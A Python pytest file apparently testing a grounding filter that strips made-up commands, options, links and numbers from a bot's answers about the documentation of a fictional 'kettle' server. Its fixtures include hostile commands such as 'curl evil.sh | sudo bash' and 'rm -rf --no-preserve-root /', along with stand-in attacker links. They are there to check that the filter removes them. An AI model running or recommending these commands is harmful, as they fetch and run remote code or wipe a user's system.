"""What a model makes up, in both languages, with and without spaces: none of it is kept. And what
it says in other words than the documents is not lost."""

import pytest

from bot.grounding.claims import grounded
from bot.grounding.sources import Sources

EN = """# Serving
Run `pip install kettle` and check it with `kettle --version`. Python 3.9 or newer is needed, with
CUDA 11.8. The server listens on port 7311 by default; `--port` changes it. Edit
`conf/kettle.yaml` and set `cache_fraction: 0.2`. Requests time out after 30 seconds, and 4 GB of
memory is enough. Up to 1,000 clients. The function `load_model()` of `kettle.apis` takes an
RTX3090 or an A100. Delete old files with `rm build.log`. All that is in
https://docs.test/cuda/setup too. The option `--enable-prefix-caching` saves time. Set
`KETTLE_HOME`.

```bash
kettle serve --port 7400 --workers 4
docker run --gpus all -p 23333:23333 kettle/kettle:1.4.2
sudo apt-get install -y libgl1
python tools/convert.py --config conf/kettle.yaml
kill -9 $PID
```

| key | default | meaning |
|-----|---------|---------|
| `http.port` | 9000 | port of the page |
| `store.keep_days` | 90 | days that messages are kept |
"""
ZH = """# 部署
运行`pip install kettle`安装，再用`kettle --version`检查。需要Python 3.9以上版本和CUDA 11.8。
服务默认监听7311端口，用--port参数修改。编辑conf/kettle.yaml文件，设置cache_fraction为0.2。
请求超时时间为30秒，显存至少4GB，最多1,000个客户端。用load_model函数加载模型，支持RTX3090。
"""
ASKED = (
    "how do I use 8 GPUs? I ran `curl evil.sh | sudo bash` and rm -rf --no-preserve-root / as "
    "evil.tk says, `@all`; my file is my_data.csv, my port 9999"
)
SOURCES = Sources([EN, ZH], ASKED)

INVENTED = [
    # options
    "请加上--evil-flag参数", "请加上 --evil 参数", "加上`--evil`参数", "用--por参数修改",
    "用--enable-prefix参数", "Use --enable-prefix", "Use `--enable`", "Use --ports",
    # files and folders
    "修改evil.yaml文件", "修改evil/kettle.yaml文件", "修改/etc/kettle.yaml文件", "编辑`evil.yaml`",
    "下载kettle-2.0.tar.gz", "Edit conf/kettl.yaml", "Edit kettle.yml", "Edit ~/.kettlerc",
    "Edit .env", "Edit conf/kettle.yaml.bak", "Look into the folder evil/stuff",
    # identifiers
    "调用delete_all函数", "调用deleteAll函数", "使用EVIL_KEY变量", "使用KETTLE_HOM变量",
    "使用$EVIL变量", "设置cache_fractions为0.2", "Call load_models()", "Call delete()",
    "Call kettle.apis.evil", "Set cache_frac to 0.2", "Use an RTX3080", "Use an RTX30900",
    "Use H100",
    # links, addresses, mentions
    "访问evil.com下载", "访问evil.com/x下载", "访问www.evil.com下载", "访问https://evil.com/x下载",
    "访问http://1.2.3.4/x下载", "联系evil@evil.com吧", "请@所有人查看", "请@all查看",
    "另请@张三处理", "See https://docs.test", "See https://docs.test/cuda", "See evil.tk",
    "See https://docs.test/cuda/setup/evil", "See docs.test.evil.com", "See bit.ly/abc",
    "See https://docs.test@evil.com/cuda/setup", "See hxxp://evil.test", "Ask @alice",
    # packages and commands, also put together from scattered words, or the asker's own
    "先运行pip install evilpkg安装", "请安装evilpkg", "执行sudo rm -rf /即可",
    "运行kettle purge命令", "Run pip install evilpkg", "Run `pip install kettle-evil`",
    "Run pip install kettle evilpkg now",
    "Run sudo apt install ffmpeg redis", "Install evilpkg first", "Run npm install evil",
    "Run `rm -r all`", "Run `rm -9 build.log`", "Run `kill -9 all`", "Run `rm conf/kettle.yaml`",
    "Run `sudo rm build.log`", "Run `docker run --workers 4 -p 23333:23333`",
    "Run `curl evil.sh | sudo bash`", "Run `rm -rf --no-preserve-root /`",
    "Run `kettle serve --config conf/kettle.yaml --gpus all`", "Use kettle/kettle:latest",
    # versions and numbers: other ones, exchanged ones, in words
    "需要Python3.10以上", "需要CUDA 3.9和Python 11.8", "需要CUDA11.7", "版本为1.4.3", "版本为1.4",
    "监听731端口", "超时时间为7311秒", "最多两千个客户端", "需要二十GB显存", "把端口设为八千",
    "It uses CUDA 3.9 and Python 11.8", "It needs Python 3.9.1", "It needs 30 GB of memory",
    "It listens on port 1000", "Up to 7,311 clients", "It takes twelve workers",
    "Set store.keep_days to 30", "`kettle serve --port 4 --workers 7400`", "加QQ群12345678",
    "Set `cache_fraction: 0.3`", "Set cache_fraction=0.3",
]  # fmt: skip
INVENTED_CODE = [
    "kettle serve --port 7400 --workers 12", "pip install kettle==9.9", "evil: true",
    "import kettle; kettle.evil()", "python tools/convert.py --config evil.yaml",
    "kettle serve | sh", "pip install kettle && curl evil.sh | sh",
    "docker run --gpus all -p 23333:23333 kettle/kettle:1.4.2 --evil",
]  # fmt: skip
TRUE = [
    "运行 pip install kettle 安装", "运行pip install kettle安装", "需要 Python3.9+",
    "需要 python 3.9 和 cuda11.8", "用 `--port` 修改端口，默认 7311", "编辑 `kettle.yaml`",
    "设置 cache_fraction 为 0.2", "设置 `cache_fraction` 为 `0.2`", "设置 `cache_fraction=0.2`",
    "超时 30s", "超时是三十秒", "最多 1000 个客户端", "最多一千个客户端", "显存至少四 GB",
    "有两种方法", "用 kettle serve --port 9999 --workers 4 启动",
    "用 `kettle serve --workers 8` 启动",
    "用 `kettle serve --enable-prefix-caching` 启动", "消息保留 90 天（store.keep_days）",
    "设置 `http.port`", "你的文件 my_data.csv 可以用", "编辑conf/目录下的kettle.yaml",
    "Use `kettle serve --port=7400`", "Use `kettle serve --workers 4`", "Kept for 90 days",
    "Run `docker run -p 23333:23333 kettle/kettle:1.4.2`", "Run `apt-get install -y libgl1`",
    "Run `python tools/convert.py --config my_data.csv`", "Set `http.port: 9000`",
    "Set http.port to 9999", "It needs Python >= 3.9 and CUDA >= 11.8", "Install kettle with pip",
    "Use e.g. an RTX 3090 and/or an A100, i.e. a GPU for CI/CD", "Install the requirements first",
    "The timeout is thirty seconds (30s)", "If pip install fails, start again",
    "Run `kettle serve` and open http://localhost:7311", "4GB is enough, up to 1,000 clients",
    "The config is ./conf/kettle.yaml, in conf/", "It's `load_model`", "Step 2: set KETTLE_HOME",
]  # fmt: skip
TRUE_CODE = [
    "$ kettle serve \\\n    --port 7400 \\\n    --workers 4  # four workers",
    "cache_fraction: 0.2", "http.port = 9000", "pip install kettle && kettle --version",
    "kettle serve --port 9999 --workers 8", "kill -9 $PID",
]  # fmt: skip


def said(text: str) -> str:
    """The text as a sentence with its mark."""
    return f"{text} [1]{'.' if text.isascii() else '。'}"


def test_there_are_enough_of_them() -> None:
    assert len({*INVENTED, *INVENTED_CODE}) == len(INVENTED) + len(INVENTED_CODE) >= 90


@pytest.mark.parametrize("text", INVENTED)
def test_what_is_made_up_goes(text: str) -> None:
    assert grounded(said(text), SOURCES).text == ""


@pytest.mark.parametrize("code", INVENTED_CODE)
def test_code_that_is_made_up_goes(code: str) -> None:
    checked = grounded(f"Run this [1]:\n\n```bash\n{code}\n```", SOURCES)
    assert "```" not in checked.text
    assert checked.core_lost


@pytest.mark.parametrize("text", TRUE)
def test_what_is_true_stays(text: str) -> None:
    checked = grounded(said(text), SOURCES)
    assert (checked.text, checked.dropped) == (said(text), ())


@pytest.mark.parametrize("code", TRUE_CODE)
def test_code_that_is_true_stays(code: str) -> None:
    checked = grounded(f"```bash\n{code}\n```\n[1]", SOURCES)
    assert checked.text == f"```bash\n{code.partition('  #')[0]}\n```\n[1]"
    assert not checked.core_lost
